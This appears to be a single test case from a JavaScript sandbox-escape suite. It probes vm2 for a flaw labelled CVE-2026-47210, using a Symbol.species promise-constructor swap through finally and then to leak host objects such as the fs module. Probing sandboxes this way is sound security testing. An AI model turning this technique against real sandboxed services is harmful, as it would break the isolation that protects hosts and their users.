// Tries: the species of promises that the platform made, through finally (vm2, CVE-2026-47210)
// Contained by: nothing
// With: look
async function attack() {
  class Spy {
    constructor(executor) {
      executor(
        (value) => look('resolved', value),
        (error) => look('rejected', error),
      )
    }
    static get [Symbol.species]() {
      return Spy
    }
  }
  const promises = [(async () => require('fs'))(), (async () => null.x)(), import('node:fs'), Promise.reject(new Error('x'))]
  for (const promise of promises) {
    promise.catch(() => 0)
    promise.constructor = Spy
    try {
      look('finally', promise.finally(() => 0))
      look('then', promise.then(() => 0))
    } catch (error) {
      look('thrown', error)
    }
  }
  if (typeof WebAssembly !== 'undefined') reached.push('WebAssembly')
  return reached.length > 0 ? reached : 'nothing'
}
